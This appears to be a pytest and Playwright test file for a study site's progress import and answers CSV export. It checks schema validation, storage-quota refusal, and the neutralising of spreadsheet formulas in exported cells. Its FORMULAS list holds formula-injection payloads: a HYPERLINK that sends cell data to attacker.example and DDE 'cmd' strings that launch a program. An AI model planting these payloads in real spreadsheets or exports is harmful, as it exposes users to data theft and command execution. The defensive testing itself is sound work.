"""The study site's progress import and answers export as hostile input (issue 37, item 6), in Debian's chromium.

An import is checked against the published progress schema before anything is stored (a `mocks` that is no
list, garbage card state: refused with the field named, the stored progress unchanged, every page still
working); a file whose progress would not fit the browser's storage is refused before writing (it used to
say "Imported" and store nothing). The answers CSV neutralises cells that a spreadsheet would run as a
formula (OWASP: a leading ' before = + - @ tab CR), read by an independent CSV parser, and `stats` reads
them back as the learner wrote them."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
from playwright.sync_api import expect

from pipeline.stats.csvfile import read_table
from schema.progress import PROGRESS_VERSION
from tests.kit.progress import DAY1, KEY, bank_by_id, practice_site, stored
from tests.kit.studysite import guarded_context, page_of

WHEN = "2026-11-30T12:00:00.000Z"
FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "'=1+1 (typed with its quote)"]


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    return practice_site(tmp_path_factory)


@pytest.fixture(scope="module")
def bank(built) -> dict[str, dict]:
    return bank_by_id(built)


@pytest.fixture
def page(browser, built):
    with guarded_context(browser, ((built / "site").as_uri() + "/",), timezone_id="UTC", accept_downloads=True) as ctx:
        page = page_of(ctx)
        page.clock.install(time=DAY1 - dt.timedelta(hours=1))
        page.clock.pause_at(DAY1)
        yield page
        assert page.errors == [] and ctx.offsite == []


def progress(bank: dict, **parts) -> dict:
    """A progress document that follows the schema: one card answered once, with `parts` laid over it."""
    qid = "1.1-q1"
    digest = bank[qid]["content_hash"]
    doc = {"format": "exam-prep-progress", "version": PROGRESS_VERSION, "exam": "demo", "exported": WHEN, "settings": {"retention": 0.9},
           "cards": {qid: {"hash": digest, "fsrs": None, "last": {"response": [["a"]], "result": "right", "rating": None, "time": WHEN},
                           "session": {"day": "2026-11-30", "result": "right"}}},
           "log": [], "answers": [{"card_id": qid, "time": WHEN, "response": [["a"]], "score": 1, "mode": "practice", "hash": digest}], "mocks": []}
    return {**doc, **parts}


def import_file(page, path: Path, text: str) -> str:
    path.write_text(text, encoding="utf-8")
    page.set_input_files("#import-file", str(path))
    status = page.locator("#import-status")
    expect(status).not_to_have_text("")  # FileReader: waits for the answer
    return status.text_content()


def with_stored(page, built: Path, doc: dict) -> None:
    page.goto((built / "site" / "progress.html").as_uri())
    page.evaluate(f"() => localStorage.setItem({json.dumps(KEY)}, {json.dumps(json.dumps(doc))})")
    page.reload()


BAD = {  # what an import holds -> the field the refusal must name
    "mocks not a list": ({"mocks": "lots"}, "mocks: expected a list, not text"),
    "mocks of numbers": ({"mocks": [1, 2]}, "mocks.0: expected an object, not a number"),
    "a garbage card": ({"cards": {"1.1-q1": "garbage"}}, "cards.1.1-q1: expected an object, not text"),
    "a garbage due date": ({"cards": {"1.1-q1": {"hash": "0" * 16, "fsrs": {"due": "soon", "stability": 1, "difficulty": 5, "elapsed_days": 0,
                                                                           "scheduled_days": 0, "learning_steps": 0, "reps": 1, "lapses": 0,
                                                                           "state": 1, "last_review": None}, "last": None, "session": None}}},
                           "cards.1.1-q1.fsrs.due: expected a date and time (ISO 8601)"),
    "a negative stability": ({"cards": {"1.1-q1": {"hash": "0" * 16, "fsrs": {"due": WHEN, "stability": -1, "difficulty": 5, "elapsed_days": 0,
                                                                             "scheduled_days": 0, "learning_steps": 0, "reps": 1, "lapses": 0,
                                                                             "state": 9, "last_review": None}, "last": None, "session": None}}},
                             "cards.1.1-q1.fsrs.stability: expected at least 0"),
    "a log of strings": ({"log": ["x"]}, "log.0: expected an object, not text"),
    "an unknown field": ({"extra": 1}, "extra: not a field of a progress file"),
    "settings missing": ({"settings": None}, "settings: expected an object, not null"),
    "answers not a list": ({"answers": {"0": 1}}, "answers: expected a list, not an object"),
}


@pytest.mark.parametrize("case", list(BAD))
def test_an_import_that_does_not_follow_the_schema_changes_nothing_and_says_why(page, built, bank, tmp_path, case):
    before = progress(bank, settings={"retention": 0.85})
    with_stored(page, built, before)
    parts, named = BAD[case]
    said = import_file(page, tmp_path / "progress.json", json.dumps(progress(bank, **parts)))
    assert said == f"Not imported: This file does not follow the progress format: {named}."
    assert stored(page) == before
    for name in ("index.html", "practice.html", "review.html", "mock.html", "progress.html"):  # every page still works
        page.goto((built / "site" / name).as_uri())
    assert page.errors == []


def test_a_valid_import_is_still_imported(page, built, bank, tmp_path):
    with_stored(page, built, progress(bank, cards={}, answers=[]))
    (tmp_path / "progress.json").write_text(json.dumps(progress(bank)), encoding="utf-8")
    page.set_input_files("#import-file", str(tmp_path / "progress.json"))
    page.click("#import-confirm")  # the import shows what it would change, then asks
    expect(page.locator("#import-status")).to_have_text("Imported progress.json: 1 question taken from the file, 0 kept from this browser.")
    assert stored(page)["cards"].keys() == {"1.1-q1"}


def test_a_file_over_the_storage_quota_is_refused_before_writing(page, built, bank, tmp_path):
    before = progress(bank, cards={}, answers=[], settings={"retention": 0.85})  # the file's card, with its long log, would be taken
    with_stored(page, built, before)
    digest = bank["1.1-q1"]["content_hash"]
    log = [{"card_id": "1.1-q1", "review_time": WHEN, "rating": 3, "state": 2, "hash": digest}] * 140_000  # about 15 MB, every entry kept
    text = json.dumps(progress(bank, log=log))
    assert 14_000_000 < len(text) < 20_000_000
    said = import_file(page, tmp_path / "big.json", text)
    assert said.startswith("Not imported: the progress in it takes 1") and "a browser keeps for a site; nothing was changed." in said
    assert stored(page) == before


def test_the_answers_export_neutralises_formulas_and_stats_reads_them_back(page, built, bank, tmp_path):
    digest = bank["1.1-q1"]["content_hash"]
    answers = [{"card_id": "1.1-q1", "time": WHEN, "response": [text], "score": 0, "mode": "practice", "hash": digest} for text in FORMULAS]
    with_stored(page, built, progress(bank, answers=answers, settings={"retention": 0.9, "learner": "u-0123abcd"}))
    with page.expect_download() as info:
        page.click("#export-responses")
    exported = Path(info.value.path()).read_bytes().decode("utf-8")
    rows = list(csv.reader(io.StringIO(exported, newline="")))
    cells = [row[2] for row in rows[1:]]
    assert cells == ["'" + text for text in FORMULAS]  # each begins with ', so a spreadsheet shows it as text
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in rows for cell in row)
    saved = tmp_path / "answers.csv"
    saved.write_bytes(exported.encode("utf-8"))
    table = read_table(saved)
    assert [row[2] for row in table.rows[1:]] == FORMULAS  # as the learner typed them
